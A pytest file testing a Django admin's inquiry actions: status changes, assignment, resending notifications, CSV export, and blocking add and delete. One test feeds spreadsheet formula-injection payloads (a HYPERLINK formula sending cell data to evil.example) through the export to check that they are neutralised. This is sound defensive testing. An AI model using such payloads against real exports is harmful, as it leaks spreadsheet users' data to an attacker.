"""What coordinators do to the inquiries they select on Django admin's list: change their status,
take them on, send their notifications again, export them; never add or delete one (SPEC §8)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.tasks import task_backends
from django.utils import timezone

from inquiries.models import EmailDelivery, Inquiry, InquiryAccess
from tests.inquiries.admin import CHANGELIST, change_url, delivery, offered_actions, run_action
from tests.pages import Page, hrefs

CSV_HEADER = [
    "Reference", "Received", "Status", "Assigned to", "Name", "Email", "Phone", "Country",
    "Condition", "Contact by", "Message", "Sent from",
]  # fmt: skip


def message_after(client):
    """The message the list shows after an action."""
    return " ".join(li.text for li in Page(client.get(CHANGELIST)).find_all("li", class_="success"))


# Status and assignment


@pytest.mark.parametrize(
    ("action", "status"),
    [("mark_contacted", "contacted"), ("mark_closed", "closed"), ("mark_spam", "spam")],
)
def test_a_status_action_changes_the_selected_and_records_history(
    staff_client, staff, make_inquiry, action, status
):
    first, second, untouched = make_inquiry(), make_inquiry(), make_inquiry()

    response = run_action(staff_client, action, first, second)

    assert response.status_code == 302
    for inquiry in (first, second):
        inquiry.refresh_from_db()
        assert inquiry.status == status
        [change] = inquiry.status_changes.all()
        assert (change.changed_by, change.from_status, change.to_status) == (staff, "new", status)
    untouched.refresh_from_db()
    assert untouched.status == Inquiry.Status.NEW
    assert not untouched.status_changes.exists()
    assert "2 inquiry(ies) marked" in message_after(staff_client)


def test_marking_contacted_sets_the_first_contact_time_once(staff_client, make_inquiry):
    earlier = timezone.now() - timedelta(days=2)
    already = make_inquiry(status=Inquiry.Status.SCHEDULED, first_contacted_at=earlier)
    fresh = make_inquiry()

    run_action(staff_client, "mark_contacted", already, fresh)

    already.refresh_from_db()
    fresh.refresh_from_db()
    assert already.first_contacted_at == earlier
    assert fresh.first_contacted_at is not None
    assert fresh.first_contacted_at > earlier


def test_marking_an_inquiry_with_the_status_it_has_records_nothing(staff_client, make_inquiry):
    inquiry = make_inquiry(status=Inquiry.Status.CLOSED)

    run_action(staff_client, "mark_closed", inquiry)

    assert not inquiry.status_changes.exists()


def test_assign_to_me_assigns_the_selected_to_the_current_user(
    staff_client, staff, make_inquiry, django_user_model
):
    colleague = django_user_model.objects.create_user("colleague", is_staff=True)
    theirs, nobodys, untouched = make_inquiry(assigned_to=colleague), make_inquiry(), make_inquiry()

    response = run_action(staff_client, "assign_to_me", theirs, nobodys)

    assert response.status_code == 302
    for inquiry in (theirs, nobodys):
        inquiry.refresh_from_db()
        assert inquiry.assigned_to == staff
    untouched.refresh_from_db()
    assert untouched.assigned_to is None


# Sending notifications again


def test_resend_sends_a_failed_notification_again(
    staff_client, make_inquiry, mailoutbox, notify_settings
):
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error="Down")
    delivery(
        inquiry, EmailDelivery.Kind.ACKNOWLEDGEMENT, state=EmailDelivery.State.SENT, attempts=1,
        sent_at=timezone.now() - timedelta(hours=1),
    )  # fmt: skip

    response = run_action(staff_client, "resend_notifications", inquiry)

    assert response.status_code == 302
    failed.refresh_from_db()
    assert failed.state == EmailDelivery.State.SENT
    assert failed.attempts == 1
    assert failed.last_error == ""
    [sent] = mailoutbox
    assert sent.to == ["coordinators@clinic.example"]
    assert inquiry.reference in sent.subject


def test_resend_puts_a_failed_notification_back_in_the_queue(staff_client, make_inquiry, settings):
    settings.TASKS = {"default": {"BACKEND": "django.tasks.backends.dummy.DummyBackend"}}
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error="Down")

    run_action(staff_client, "resend_notifications", inquiry)

    failed.refresh_from_db()
    assert (failed.state, failed.attempts) == (EmailDelivery.State.PENDING, 0)
    [queued] = task_backends["default"].results
    assert queued.args == [failed.pk]


def test_resend_does_not_send_an_email_already_sent(staff_client, make_inquiry, mailoutbox):
    inquiry = make_inquiry()
    sent_at = timezone.now() - timedelta(hours=1)
    sent = delivery(inquiry, state=EmailDelivery.State.SENT, attempts=1, sent_at=sent_at)

    response = run_action(staff_client, "resend_notifications", inquiry)

    assert response.status_code == 302
    assert mailoutbox == []
    sent.refresh_from_db()
    assert (sent.state, sent.sent_at) == (EmailDelivery.State.SENT, sent_at)
    assert "0 email(s) queued" in message_after(staff_client)


def test_resend_including_sent_emails_sends_it_again(
    staff_client, make_inquiry, mailoutbox, notify_settings
):
    inquiry = make_inquiry(email="ada@example.org")
    sent_at = timezone.now() - timedelta(hours=1)
    sent = delivery(
        inquiry, EmailDelivery.Kind.ACKNOWLEDGEMENT, state=EmailDelivery.State.SENT, attempts=1,
        sent_at=sent_at,
    )  # fmt: skip

    response = run_action(staff_client, "resend_all_notifications", inquiry)

    assert response.status_code == 302
    [again] = mailoutbox
    assert again.to == ["ada@example.org"]
    sent.refresh_from_db()
    assert sent.state == EmailDelivery.State.SENT
    assert sent.sent_at > sent_at


def test_resend_skips_an_inquiry_whose_data_was_erased(staff_client, make_inquiry, mailoutbox):
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8)
    inquiry.erase_personal_data(by="admin")

    run_action(staff_client, "resend_all_notifications", inquiry)

    failed.refresh_from_db()
    assert failed.state == EmailDelivery.State.FAILED
    assert mailoutbox == []


# CSV export


def export(client, *inquiries):
    response = run_action(client, "export_csv", *inquiries)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="inquiries-\d{8}-\d{4}\.csv"', response["Content-Disposition"]
    )
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert header == CSV_HEADER
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def test_export_selected_as_csv(staff_client, staff, make_inquiry, make_condition):
    lupus = make_condition(name="Systemic Lupus Erythematosus")
    received = timezone.now() - timedelta(days=1)
    chosen = make_inquiry(
        name="Ada Lovelace",
        email="ada@example.org",
        phone="07946 000000",
        country="United Kingdom",
        condition=lupus,
        contact_preference=Inquiry.ContactPreference.PHONE,
        message='Line one,\nline two with "quotes" and a comma.',
        source_page="/conditions/sle/",
        status=Inquiry.Status.CONTACTED,
        assigned_to=staff,
        created_at=received,
    )
    also_chosen = make_inquiry(name="Grace Hopper", condition=None)
    make_inquiry(name="Not Selected")

    rows = export(staff_client, chosen, also_chosen)

    assert set(rows) == {chosen.reference, also_chosen.reference}
    assert rows[chosen.reference] == {
        "Reference": chosen.reference,
        "Received": timezone.localtime(received).strftime("%Y-%m-%d %H:%M"),
        "Status": "Contacted",
        "Assigned to": staff.username,
        "Name": "Ada Lovelace",
        "Email": "ada@example.org",
        "Phone": "07946 000000",
        "Country": "United Kingdom",
        "Condition": "Systemic Lupus Erythematosus",
        "Contact by": "Phone",
        "Message": 'Line one,\nline two with "quotes" and a comma.',
        "Sent from": "/conditions/sle/",
    }
    assert rows[also_chosen.reference]["Condition"] == "Other / not sure"
    assert rows[also_chosen.reference]["Assigned to"] == ""


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        *((f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")', True) for start in "=+-@\t\r"),
        ("Cost: 2+2 = 4 @ home - maybe", False),
    ],
)
def test_export_neutralises_only_cells_a_spreadsheet_would_run(
    staff_client, make_inquiry, text, quoted
):
    phone = f"{text[0]}1 555 0100"
    inquiry = make_inquiry(name=text, country=text, message=text, phone=phone)

    [cells] = export(staff_client, inquiry).values()

    quote = "'" if quoted else ""
    for column in ["Name", "Country", "Message"]:
        assert cells[column] == quote + text
    assert cells["Phone"] == quote + phone


def test_export_records_an_exported_access_per_inquiry(staff_client, staff, make_inquiry):
    first, second, unselected = make_inquiry(), make_inquiry(), make_inquiry()
    before = timezone.now()

    export(staff_client, first, second)

    accesses = InquiryAccess.objects.filter(action=InquiryAccess.Action.EXPORTED)
    assert sorted(a.inquiry_id for a in accesses) == sorted([first.pk, second.pk])
    for access in accesses:
        assert (access.user, access.username) == (staff, staff.username)
        assert before <= access.at <= timezone.now()
    assert not InquiryAccess.objects.filter(inquiry=unselected).exists()


# Nobody adds or deletes inquiries


def test_nobody_can_delete_an_inquiry(staff_client, make_inquiry):
    inquiry = make_inquiry()

    offered = offered_actions(staff_client.get(CHANGELIST))
    assert "delete_selected" not in offered and "mark_contacted" in offered
    delete_url = f"{CHANGELIST}{inquiry.pk}/delete/"
    assert staff_client.get(delete_url).status_code == 403
    assert staff_client.post(delete_url, {"post": "yes"}).status_code == 403
    run_action(staff_client, "delete_selected", inquiry, post="yes")
    assert delete_url not in hrefs(staff_client.get(change_url(inquiry)))
    assert Inquiry.objects.filter(pk=inquiry.pk).exists()


def test_nobody_can_add_an_inquiry_in_admin(staff_client):
    assert staff_client.get(f"{CHANGELIST}add/").status_code == 403
    response = staff_client.post(
        f"{CHANGELIST}add/",
        {"status": "new", "name": "Forged", "email": "x@example.org", "message": "Made up."},
    )
    assert response.status_code == 403
    assert f"{CHANGELIST}add/" not in hrefs(staff_client.get(CHANGELIST))
    assert not Inquiry.objects.exists()
